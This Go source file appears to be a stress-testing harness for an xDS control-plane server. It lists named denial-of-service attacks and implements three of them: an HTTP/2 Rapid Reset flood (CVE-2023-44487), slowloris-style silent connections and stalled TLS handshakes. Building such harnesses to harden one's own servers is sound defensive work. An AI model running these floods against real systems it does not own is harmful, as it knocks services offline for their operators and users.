package hostile

import (
	"golang.org/x/net/http2"
)

// attacks by name. Unless noted otherwise, a.size is the number of connections.
var attacks = map[string]func(a *assault){
	"names that change":            namesThatChange,
	"names that change, 8 streams": namesThatChange,
	"many names":                   manyNames,
	"unknown types":                unknownTypes,
	"Secrets without identity":     secretsWithoutIdentity,
	"keys of one client":           keysOfOneClient,

	"rapid reset":             rapidReset,
	"silent connections":      silent,
	"silent TLS connections":  silentTLS,
	"half requests":           halfRequests,
	"huge requests":           hugeRequests,
	"half REST polls":         halfPolls,
	"whole REST polls":        wholePolls,
	"a million names at once": namesAtOnce,
	"a million names, by one": namesByOne,
	"nodes with own keys":     ownKeys,
	"large nodes":             largeNodes,
	"dense nodes":             denseNodes,
	"never reading":           neverReading,
	"NACK loops":              nackLoops,
	"asking again and again":  askingAgain,
}

// rapidReset is CVE-2023-44487: streams that are reset as soon as they are opened.
func rapidReset(a *assault) {
	a.flood(a.XDS, a.size, func(c *h2) int {
		for range 50 {
			_ = c.fr.WriteRSTStream(c.open(sotwPath), http2.ErrCodeCancel)
		}
		return 50
	})
}

// silent opens connections that send nothing, and reopens them when they are closed.
func silent(a *assault) {
	a.each(a.size, func(int) error {
		c, err := a.connect(a.XDS)
		if err != nil {
			return err
		}
		a.hit(1)
		_, _ = c.Read(make([]byte, 1)) // the server's settings, or its end
		_, _ = c.Read(make([]byte, 1<<10))
		_, _ = c.Read(make([]byte, 1<<10))
		return c.Close()
	})
}

// silentTLS begins a handshake and does not continue.
func silentTLS(a *assault) {
	a.each(a.size, func(int) error {
		c, err := a.connect(a.TLS)
		if err != nil {
			return err
		}
		_, _ = c.Write([]byte{22, 3, 1, 0x02, 0}) // a record of 512 bytes will follow
		a.hit(1)
		_, _ = c.Read(make([]byte, 1))
		return c.Close()
	})
}
